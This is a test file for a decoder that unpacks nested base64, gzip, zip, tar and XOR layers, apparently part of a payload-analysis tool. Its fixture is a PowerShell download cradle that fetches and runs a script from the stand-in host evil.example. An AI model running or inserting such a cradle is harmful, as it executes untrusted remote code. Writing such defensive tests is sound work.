@@ -1,0 +1,57 @@
+import { createHash } from 'node:crypto';
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import decodeLayers from '../../../functions/decode/layers.ts';
+import { tarOf, zipOf } from '../../support/archives.ts';
+import { runIn } from '../../support/run.ts';
+
+const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');
+const decode = async (value: string, options: object = {}) => runIn(decodeLayers, { value, ...options });
+const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
+
+describe('decode-layers', () => {
+  it('gives the way in for everything it finds', async () => {
+    const { rows } = await decode(`x ${base64(zipOf({ 'docs/a.txt': 'first file, to be deflated', 'b.tar': tarOf({ 'c.ps1': script }).toString('latin1') }))}`);
+    expect(rows.map(({ Id, ParentId, Layers, Name, FileType }) => [Id, ParentId, (Layers as string[]).join('>'), Name, FileType])).toEqual([
+      ['1', '', 'base64', null, 'zip'],
+      ['1.1', '1', 'base64>zip', 'docs/a.txt', 'text'],
+      ['1.2', '1', 'base64>zip', 'b.tar', 'tar'],
+      ['1.2.1', '1.2', 'base64>zip>tar', 'c.ps1', 'text'],
+    ]);
+  });
+
+  it('hashes and types what it finds, and gives the bytes on request', async () => {
+    const { rows } = await decode(Buffer.from('\x7fELF\x02\x01\x01\0\xff\xfe\xfd\xfc\xfb', 'latin1').toString('hex'), { encoding: 'text', showBytes: true });
+    expect(rows).toMatchObject([{ Layers: ['hex'], FileType: 'elf', MediaType: 'application/x-elf', Text: null, Size: 13, Bytes: 'f0VMRgIBAQD//v38+w==', MD5: createHash('md5').update(Buffer.from('f0VMRgIBAQD//v38+w==', 'base64')).digest('hex') }]);
+  });
+
+  it('opens files given in base64', async () => {
+    expect((await decode(base64(gzipSync(script)), { encoding: 'base64' })).rows).toMatchObject([{ Id: '1', Layers: ['gzip'], Text: script }]);
+  });
+
+  it('tries keys that the caller names', async () => {
+    const under = Buffer.from(Buffer.from('just a note, nothing that tells').map((byte) => byte ^ 0x17));
+    expect((await decode(base64(under), { encoding: 'base64' })).rows).toEqual([]);
+    expect((await decode(base64(under), { encoding: 'base64', xorKeys: [0x80, 0x17] })).rows).toMatchObject([{ Layers: ['xor-0x17'], Text: 'just a note, nothing that tells' }]);
+  });
+
+  it.each([
+    ['layers', base64(gzipSync(base64(gzipSync(base64(gzipSync(script)))))), { maxDepth: 2 }, 'depth-limit'],
+    ['items', Array.from({ length: 9 }, (_, number) => base64(`${number} ${script}`)).join(' '), { maxItems: 3 }, 'item-limit'],
+    ['bytes', base64(gzipSync(Buffer.alloc(2_000_000, 'a b c '))), { maxBytes: 10_000 }, 'byte-limit'],
+    ['growth', base64(gzipSync(Buffer.alloc(20_000_000))), {}, 'expansion-limit'],
+  ])('bounds %s, and says so', async (_, value, options, code) => {
+    expect((await decode(value, options)).problems.map((problem) => problem.code)).toContain(code);
+  });
+
+  it.each(['A', '%41', '\\x41', '65,', '[char]65+', "'a'+", '&#65;', '{0}', "'a',", 'eyJ', '^a', '0x41,', 'A2', '-e ', '\\u0041', '"{0}"-f"', 'chr(', 'AAAA\n'])('takes linear time for %j repeated', async (shape) => {
+    const time = async (length: number) => {
+      const started = performance.now();
+      await decode(shape.repeat(length / shape.length));
+      return performance.now() - started;
+    };
+    await time(10_000);
+    const small = Math.min(await time(40_000), await time(40_000));
+    expect(Math.min(await time(160_000), await time(160_000))).toBeLessThan(Math.max(12 * small, 300));
+  });
+});
